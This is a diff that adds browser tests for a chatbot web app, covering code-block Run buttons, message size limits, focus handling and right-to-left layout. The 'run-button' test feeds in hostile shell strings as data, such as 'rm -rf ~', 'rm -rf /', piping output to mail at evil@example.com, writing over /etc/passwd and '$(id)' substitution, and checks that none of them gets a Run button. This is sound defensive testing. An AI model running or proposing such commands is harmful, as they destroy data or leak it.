@@ -556,6 +556,39 @@ export const tests = [
         },
     },
     {
+        name: 'run-button',
+        async fn({ browser, cleanup, skip }) {
+            // Run only for a block that is one plain invocation of a declared
+            // command: the server runs it without a shell, so pipes, lists,
+            // redirections and substitutions would not do what the block says.
+            const { ctx, page, rec, problems } = await openApp(browser);
+            cleanup(() => ctx.close());
+            const bot = rec.got('hello')[0].bots.find((b) => Array.isArray(b.commands) && b.commands.length);
+            if (!bot) skip('no bot declares commands');
+            if (bot.id !== await firstBot(page)) await page.locator('#bot-list .bot-item', { hasText: bot.id }).click();
+            const c = bot.commands[0];
+            const blocks = [
+                [c, true], ['$ ' + c + ' "a | b"', true], ['# show it\n' + c, true],
+                [c + ' && rm -rf ~', false], [c + ' | mail evil@example.com', false], [c + '; reboot', false],
+                [c + ' > /etc/passwd', false], [c + ' $(id)', false], [c + ' "`id`"', false],
+                [c + '\nrm -rf /', false], ['not_declared_cmd', false],
+            ];
+            const reply = blocks.map(([b], i) => 'Block ' + i + ':\n\n```sh\n' + b + '\n```\n').join('\n');
+            await turn(page, rec, 'Suggest ' + fake({ reply_b64: b64(reply), delay_ms: 1 }));
+            const got = await page.locator('#msg-list .msg-assistant').last().locator('.codeblock').evaluateAll(
+                (els) => els.map((e) => !!e.querySelector('.code-btn.run')));
+            assert.deepEqual(got, blocks.map(([, run]) => run), 'Run buttons: ' + JSON.stringify(blocks.map(([b]) => b)));
+            // The confirmation names exactly what runs; Cancel runs nothing.
+            await page.locator('#msg-list .codeblock').nth(1).getByRole('button', { name: /^Run / }).click();
+            const dlg = page.locator('#confirm-dialog');
+            assert.ok((await dlg.innerText()).includes('$ ' + c + " 'a | b'"), 'the dialog shows the command and its one argument, quoted');
+            await dlg.getByRole('button', { name: 'Cancel' }).click();
+            await sleep(300);
+            assert.equal(rec.put('run').length, 0, 'Cancel sends nothing');
+            assertNoProblems(problems);
+        },
+    },
+    {
         name: 'backend-down',
         async fn({ browser, cleanup }) {
             const { ctx, page, rec, problems } = await openApp(browser);
@@ -716,7 +749,8 @@ export const tests = [
                     };
                     const sel = ['.md p', '.msg-meta', '.side-heading', '.bot-model', '.session-sub', '.chat-subtitle',
                         '.btn-primary', '.link-btn', '.md a', '.kv dt', '.metric-label', '.codeblock-lang', '.hljs-keyword',
-                        '.hljs-string', '.hljs-comment', '.hljs-number', '.bubble', '.send-btn:not([hidden])'];
+                        '.hljs-string', '.hljs-comment', '.hljs-number', '.bubble', '.send-btn:not([hidden])',
+                        '#st-backends .badge-ok', '.conn-label', '.composer-hint', '.state'];
                     const out = [];
                     for (const s of sel) {
                         const el = document.querySelector(s);
@@ -842,6 +876,144 @@ export const tests = [
                 await until(async () => /Loading model/.test(await page.locator('#chat-subtitle').innerText()), 2000, 'loading in header');
             }
             await waitIdle(page, 20000);
+            assertNoProblems(problems);
+        },
+    },
+    {
+        name: 'message-size',
+        async fn({ browser, cleanup }) {
+            // hello.limits.max_message_bytes limits the whole WebSocket message
+            // (server closes 1009 beyond it), JSON envelope and escapes included.
+            const { ctx, page, rec, problems } = await openApp(browser);
+            cleanup(() => ctx.close());
+            const max = rec.got('hello')[0].limits.max_message_bytes;
+            assert.ok(max > 1000, 'the server announces its limit');
+            const box = page.locator('#composer-input');
+            // Text under the limit, frame over it: refused here, kept in the box.
+            for (const text of ['q'.repeat(max - 40), '"'.repeat(Math.ceil(max / 2) + 10)]) {
+                await box.fill(text);
+                assert.ok(await page.locator('#send-btn').isDisabled(), 'Send disabled for ' + text.length + ' chars of ' + text[0]);
+                assert.match(await page.locator('#composer-count').innerText(), /Too long/);
+                await box.press('Enter');
+                await sleep(300);
+                assert.equal(rec.put('message').length + rec.put('launch').length, 0, 'nothing sent');
+                assert.equal(await box.inputValue(), text, 'the text stays in the box');
+            }
+            assert.equal(rec.closes.length, 0, 'the socket was never closed by the server');
+            // Just under the limit, envelope included: sent and answered.
+            const d = fake({ tokens: 3, delay_ms: 1 }) + ' ';
+            let fits = d + 'f'.repeat(max - 400);
+            await box.fill(fits);
+            const n = await page.evaluate(() => {
+                const t = document.getElementById('composer-input').value;
+                return new TextEncoder().encode(t).length;
+            });
+            assert.ok(n > max - 500);
+            assert.equal(await page.locator('#send-btn').isDisabled(), false, 'Send enabled when the frame fits');
+            await box.press('Enter');
+            const m = await rec.waitPut('message');
+            assert.equal(m.content, fits);
+            await rec.waitGot('response', undefined, 20000);
+            await waitIdle(page);
+            assert.equal(rec.closes.length, 0, 'no close 1009');
+            assert.equal(await page.locator('#msg-list .msg-user').count(), 1, 'the long message is on screen');
+            assertNoProblems(problems);
+        },
+    },
+    {
+        name: 'message-size-1009',
+        async fn({ browser, cleanup }) {
+            // A server that closes 1009 below what it announced (or an old one
+            // without limits): the refused text comes back into the box.
+            const wsUrl = new URL('ws', BASE_URL);
+            wsUrl.protocol = wsUrl.protocol === 'https:' ? 'wss:' : 'ws:';
+            const { ctx, page, rec, problems } = await openApp(browser, {
+                beforeGoto: (p) => p.routeWebSocket(wsUrl.href, (ws) => {
+                    const server = ws.connectToServer();
+                    ws.onMessage((m) => server.send(m));
+                    server.onMessage((m) => {
+                        const f = JSON.parse(m);
+                        if (f.type === 'hello' && f.limits) { f.limits.max_message_bytes = 1 << 20; m = JSON.stringify(f); }
+                        ws.send(m);
+                    });
+                    server.onClose((code, reason) => ws.close({ code, reason }));
+                }),
+            });
+            cleanup(() => ctx.close());
+            // a short first turn so the conversation exists
+            await sendText(page, 'hi ' + fake({ tokens: 2, delay_ms: 1 }));
+            await rec.waitGot('response', undefined, 20000);
+            await waitIdle(page);
+            const big = 'z'.repeat(70000);
+            await sendText(page, big);
+            await until(() => rec.closes.length >= 1, 10000, 'the server closes the socket');
+            await waitReady(page);
+            await until(async () => (await page.locator('#composer-input').inputValue()) === big, 5000, 'text back in the box');
+            assert.ok(await page.locator('.toast.error', { hasText: 'too long' }).isVisible(), 'says why');
+            await waitIdle(page);
+            assertNoProblems(problems);
+        },
+    },
+    {
+        name: 'focus-after-send',
+        async fn({ browser, cleanup }) {
+            const { ctx, page, rec, problems } = await openApp(browser);
+            cleanup(() => ctx.close());
+            const focused = () => page.evaluate(() => document.activeElement && (document.activeElement.id || document.activeElement.tagName));
+            // Send with the button: it turns into Stop; focus stays in the box.
+            await page.locator('#composer-input').fill('Long one ' + fake({ tokens: 200, delay_ms: 30 }));
+            await page.locator('#send-btn').click();
+            await until(() => rec.got('stream').length >= 2, 15000, 'streaming');
+            assert.equal(await focused(), 'composer-input', 'focus in the message box after Send');
+            // Stop with the button: when the answer ends it turns back into Send.
+            await page.locator('#stop-btn').click();
+            await rec.waitGot('response', undefined, 10000);
+            await waitIdle(page);
+            await sleep(100);
+            assert.equal(await focused(), 'composer-input', 'focus in the message box after Stop');
+            assertNoProblems(problems);
+        },
+    },
+    {
+        name: 'rtl',
+        async fn({ browser, cleanup }) {
+            const { ctx, page, rec, problems } = await openApp(browser);
+            cleanup(() => ctx.close());
+            const ar = '\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645\u061f';
+            const he = '\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd!';
+            const reply = he + ' abc\n\n- ' + ar + '\n- English item\n\n```\necho ' + he + '\n```\n\nPlain English.';
+            await turn(page, rec, ar + ' ' + fake({ reply_b64: b64(reply), delay_ms: 2 }));
+            const dirs = await page.evaluate(() => {
+                const d = (el) => el && getComputedStyle(el).direction;
+                const md = [...document.querySelectorAll('#msg-list .msg-assistant .md')].pop();
+                return {
+                    bubble: d(document.querySelector('#msg-list .msg-user .bubble')),
+                    p: d(md.querySelector('p')),
+                    li: [...md.querySelectorAll('li')].map(d),
+                    pre: d(md.querySelector('pre')),
+                    last: d([...md.querySelectorAll('p')].pop()),
+                    session: d(document.querySelector('#session-list .session-title')),
+                };
+            });
+            assert.deepEqual(dirs, { bubble: 'rtl', p: 'rtl', li: ['rtl', 'ltr'], pre: 'ltr', last: 'ltr', session: 'rtl' },
+                'each block follows its own text direction');
+            // The title is laid out right to left (its "?" first on the left) but
+            // stays at the left of the header, under nothing else.
+            const title = await page.evaluate(() => {
+                const h = document.getElementById('chat-title');
+                const r = document.createRange();
+                r.selectNodeContents(h);
+                const rects = [...r.getClientRects()];
+                return { text: h.textContent, gap: rects[0].left - h.getBoundingClientRect().left,
+                    q: (() => { r.setStart(h.firstChild, h.textContent.length - 1); return r.getBoundingClientRect().left - h.getBoundingClientRect().left; })() };
+            });
+            assert.ok(title.text.endsWith('؟'), 'title from the first message: ' + title.text);
+            assert.ok(title.gap < 2, 'title text starts at the left edge, gap ' + title.gap);
+            assert.ok(title.q < 4, 'the final "?" of an Arabic title is shown leftmost, at ' + title.q);
+            await page.locator('#composer-input').fill(he);
+            assert.equal(await page.evaluate(() => document.getElementById('composer-input').matches(':dir(rtl)')), true,
+                'the message box follows what is typed');
+            await shot(page, 'rtl');
             assertNoProblems(problems);
         },
     },
